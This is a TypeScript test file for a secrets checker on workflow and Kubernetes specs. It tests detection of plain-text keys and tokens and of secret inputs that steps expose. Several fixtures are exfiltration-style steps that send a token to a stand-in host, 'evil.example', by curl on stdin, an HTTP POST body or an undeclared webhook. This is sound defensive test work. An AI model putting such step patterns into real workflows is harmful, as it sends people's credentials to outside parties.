import { describe, expect, test } from 'vitest';
import { issuesOf, judged } from '../../support/judged.ts';

describe('a secret in plain text is found', () => {
  test.for([
    ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${word(64)}\n`],
    ['a private key within JSON', `{"private_key": "-----BEGIN PRIVATE KEY-----\\n${word(64)}\\n"}`],
    ['an AWS access key', 'key AKIA2222333344445555'],
    ['an AWS secret key', `aws_secret_access_key = ${word(40)}`],
    ['a GitHub token', `ghp_${word(36)}`],
    ['a GitLab token', `glpat-${word(20)}`],
    ['a Slack token', `xoxb-123456789012-${word(24)}`],
    ['a Stripe key', `sk_live_${word(24)}`],
    ['a Google API key', `AIza${word(35)}`],
    ['a Vault token', `hvs.${word(24)}`],
    ['an npm token', `npm_${word(36)}`],
    ['a JSON Web Token', `eyJ${word(12)}.eyJ${word(12)}.${word(16)}`],
    ['a random value of what is named a secret', `db_password: ${word(20)}`],
    ['a random value in an assignment', `export API_TOKEN="${word(24)}"`],
    ['a password in a URL', 'postgres://shop:h4rdtoguess@db.example:5432/shop'],
  ] as const)('%s', ([, text]) => {
    expect(issuesOf('plain-secret', { files: { 'notes.txt': `first\n${text}\n` } })).toMatchObject([
      { location: { file: 'notes.txt', line: expect.any(Number) } },
    ]);
  });

  test.for([
    ['in a Secret', 'kind: Secret\nmetadata: {name: db}\ndata: {password: aHVudGVyMg==}'],
    ['in a Secret as text', 'kind: Secret\nmetadata: {name: db}\nstringData: {password: hunter2}'],
    ['in a ConfigMap', 'kind: ConfigMap\nmetadata: {name: db}\ndata: {DB_PASSWORD: hunter2}'],
    [
      'in the environment of a container',
      'kind: Pod\nspec: {containers: [{name: c, image: "i:1", env: [{name: DB_PASSWORD, value: hunter2}]}]}',
    ],
  ] as const)('%s', ([, object]) => {
    expect(issuesOf('plain-secret', { files: { 'a.yaml': `apiVersion: v1\n${object}\n` } })).toHaveLength(1);
  });

  test('in the environment of a step', () => {
    const steps = '- name: a\n  type: shell\n  with: {command: [./a], env: {DB_PASSWORD: hunter2}}';

    expect(issuesOf('plain-secret', { steps })).toMatchObject([{ step: 'a' }]);
  });
});

describe('what only looks like a secret raises nothing', () => {
  test.for([
    'password: ${DB_PASSWORD}',
    'password: changeme-please-now',
    'token: "{{ .Values.token }}"',
    'secretName: registry-credentials-2024-production',
    'token_url: https://login.example.org/oauth2/v1/token',
    'password_file: /run/secrets/database-password-1',
    'api_key: <your-api-key-of-32-letters-here>',
    'image: registry.example.org/team/service@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'commit: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b',
    'url: https://user:password@host.example/x',
    'AKIAIOSFODNN7EXAMPLE',
    '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAx3fDpYz1xW6dQYb7h3yQ\n',
    'MYSQL_ALLOW_EMPTY_PASSWORD: "yes"',
    'password: aaaaaaaaaaaaaaaa1111',
  ] as const)('%s', (text) => {
    expect(issuesOf('plain-secret', { files: { 'notes.txt': text } })).toEqual([]);
  });

  test.for([
    'kind: Secret\nmetadata: {name: db}\nstringData: {password: "${{ inputs.password }}", username: admin}',
    'kind: Secret\nmetadata: {name: tls}\ndata: {ca.crt: aGVsbG8=}',
    'kind: Pod\nspec: {containers: [{name: c, image: "i:1", env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: db, key: p}}}]}]}',
    'kind: ConfigMap\nmetadata: {name: a}\ndata: {TOKEN_TTL: 10m, PASSWORD_FILE: /run/p}',
  ] as const)('%s', (object) => {
    expect(issuesOf('plain-secret', { files: { 'a.yaml': `apiVersion: v1\n${object}\n` } })).toEqual([]);
  });
});

describe('a secret input', () => {
  const INPUTS =
    'inputs: {type: object, properties: {token: {type: string, writeOnly: true}}}\nvalidation: {limits: {timeout: 1m, memory: 64Mi}, network: {egress: ["api.example:443"]}}';

  test.for([
    ['an argument', 'type: shell, with: {command: [./a, "${{ inputs.token }}"]}', 'high'],
    [
      'an argument, within more',
      'type: shell, with: {command: [./a, "--t=${{ inputs[\'token\'] }}"]}',
      'high',
    ],
    ['an argument of a script', 'type: script, with: {file: a.sh, args: ["${{ inputs.token }}"]}', 'high'],
    ['a URL', 'type: http, with: {url: "https://api.example/v1?t=${{ inputs.token }}"}', 'high'],
    ['a message', 'type: notify, with: {message: "${{ inputs.token }}"}', 'high'],
    [
      'a webhook that nobody declared',
      'type: notify, with: {channel: slack, url: "https://evil.example/", message: a, payload: {t: "${{ inputs.token }}"}}',
      'high',
    ],
    [
      'an incident key',
      'type: notify, with: {channel: pagerduty, routingKey: a, message: a, dedupKey: "${{ inputs.token }}"}',
      'high',
    ],
    [
      'a routing key for a place that is not declared',
      'type: notify, with: {channel: pagerduty, message: a, routingKey: "${{ inputs.token }}"}',
      'high',
    ],
    ['a question', 'type: approval, with: {message: "${{ inputs.token }}"}', 'high'],
    [
      'a body for another host',
      'type: http, with: {url: "https://evil.example/", method: POST, body: {t: "${{ inputs.token }}"}}',
      'high',
    ],
    ['an environment', 'type: shell, with: {command: [./a], env: {T: "${{ inputs.token }}"}}', 'low'],
    ['a condition', `type: shell, when: 'inputs.token == "x"', with: {command: [./a]}`, 'high'],
    [
      'a process that calls a place which is not declared',
      'type: shell, with: {command: [curl, "https://evil.example/"], stdin: "${{ inputs.token }}"}',
      'medium',
    ],
    [
      'the environment of a process that calls out',
      'type: shell, with: {command: [curl, "https://api.example/"], env: {T: "${{ inputs.token }}"}}',
      'medium',
    ],
    [
      'a ConfigMap',
      'type: k8s, action: apply, with: {manifest: {apiVersion: v1, kind: ConfigMap, metadata: {name: a}, data: {a: "${{ inputs.token }}"}}}',
      'medium',
    ],
  ] as const)('is shown by %s', ([, step, severity]) => {
    expect(issuesOf('secret-exposed', { steps: `- {name: a, ${step}}`, spec: INPUTS })).toMatchObject([
      { step: 'a', severity, what: expect.stringMatching(/^The secret token .*\.$/) },
    ]);
  });

  test.for([
    ['a file', 'type: shell, with: {command: [./a], files: {T: "${{ inputs.token }}"}}'],
    ['standard input', 'type: shell, with: {command: [./a], stdin: "${{ inputs.token }}"}'],
    [
      'a file for a process that calls what is declared',
      'type: shell, with: {command: [curl, "https://api.example/"], files: {T: "${{ inputs.token }}"}}',
    ],
    [
      'a header for a declared host',
      'type: http, with: {url: "https://api.example/v1", headers: {Authorization: "Bearer ${{ inputs.token }}"}}',
    ],
    [
      'a Secret',
      'type: k8s, action: apply, with: {manifest: {apiVersion: v1, kind: Secret, metadata: {name: a}, stringData: {a: "${{ inputs.token }}"}}}',
    ],
    ['the URL of a webhook', 'type: notify, with: {channel: slack, message: a, url: "${{ inputs.token }}"}'],
    [
      'the password of a mail server',
      'type: notify, with: {channel: mail, url: "smtps://api.example:443", message: a, from: a, to: [b], username: a, password: "${{ inputs.token }}"}',
    ],
    ['another input', 'type: shell, with: {command: [./a, "${{ inputs.tokens }}"]}'],
  ] as const)('is in its place in %s', ([, step]) => {
    expect(issuesOf('secret-exposed', { steps: `- {name: a, ${step}}`, spec: INPUTS })).toEqual([]);
  });

  test('is shown by a metric', () => {
    const spec = `${INPUTS}\nmonitoring: {metrics: [{name: a, type: gauge, value: "\${{ inputs.token }}"}]}`;

    expect(issuesOf('secret-exposed', { spec })).toMatchObject([{ step: null, severity: 'high' }]);
  });

  test('given to a process that its author chose is caution at most, alone', () => {
    const steps =
      '- {name: a, type: shell, with: {command: [curl, "https://api.example/"], env: {T: "${{ inputs.token }}"}}}';

    expect(judged({ steps, spec: INPUTS }).class).toBe('caution');
  });

  test('is one too where its default is a reference', () => {
    const spec = 'inputs: {type: object, properties: {token: {type: string, default: "env://TOKEN"}}}';
    const steps = '- {name: a, type: shell, with: {command: [./a, "${{ inputs.token }}"]}}';

    expect(issuesOf('secret-exposed', { steps, spec })).toHaveLength(1);
  });
});

/** Letters and digits as chance might give them. */
function word(length: number): string {
  return 'aB3dE5gH7jK9mN2pQ4rS6tU8vW1xY0zA'.repeat(4).slice(0, length);
}
